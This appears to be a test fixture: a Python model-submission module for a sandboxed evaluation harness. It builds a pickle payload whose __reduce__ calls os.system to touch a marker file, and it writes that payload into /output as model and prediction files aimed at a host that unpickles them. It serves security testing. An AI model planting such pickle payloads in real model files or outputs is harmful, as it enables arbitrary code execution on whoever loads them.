"""Unpickles its own model inside the sandbox (the payload runs there, harmlessly) and drops
more pickles in /output for a careless host."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


def load(model_dir):
    with open(os.path.join(model_dir, "model.pkl"), "rb") as handle:
        pickle.load(handle)
    print("marker inside the sandbox:", os.path.exists("/tmp/pwned-by-pickle"), flush=True)
    for name in ("predictions.pkl", "model.pkl"):
        with open(os.path.join("/output", name), "wb") as handle:
            pickle.dump(Payload(), handle)
    return 0.5


def predict(model, frame):
    return [model] * len(frame)
